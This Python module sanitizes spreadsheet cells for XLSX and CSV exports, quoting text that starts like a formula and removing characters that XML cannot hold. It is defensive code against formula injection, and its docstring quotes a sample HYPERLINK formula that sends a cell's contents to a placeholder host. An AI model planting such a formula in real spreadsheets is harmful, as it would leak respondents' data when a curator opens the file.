"""The one function every XLSX and CSV export passes its cells through.

A respondent's free text, a program's name or a person's name reaches a curator's Excel. Two
things must not follow it there: a formula (``=HYPERLINK("http://x/?"&A1)`` sends the sheet
away when opened) and a character XML 1.0 cannot hold (a vertical tab from Word's Shift+Enter
makes openpyxl refuse the whole workbook). Imports no app.
"""

import re

# OWASP "CSV Injection": a cell starting with one of these may be read as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A text that is just a written number («-1,40», «+14,3», «42,9%») is no formula: Excel reads it
# as the number, and a quote would turn the figures of a report into text.
WRITTEN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?%?")
# Word's line breaks inside a paragraph (Shift+Enter, page break) mean a new line.
LINE_BREAKS = {0x0B: "\n", 0x0C: "\n"}
# What else XML 1.0 refuses (C0 controls other than TAB/LF/CR, lone surrogates, U+FFFE/FFFF),
# and DEL, which nobody means to write.
NOT_IN_XML = re.compile("[\x00-\x08\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")


def safe_cell(value):
    """A value for a spreadsheet cell: non-text as is; text without XML-illegal characters
    and, when it could start a formula, with a leading single quote."""
    if not isinstance(value, str):
        return value
    text = NOT_IN_XML.sub("", value.translate(LINE_BREAKS))
    if text.startswith(FORMULA_STARTS) and not WRITTEN_NUMBER.fullmatch(text):
        return "'" + text
    return text
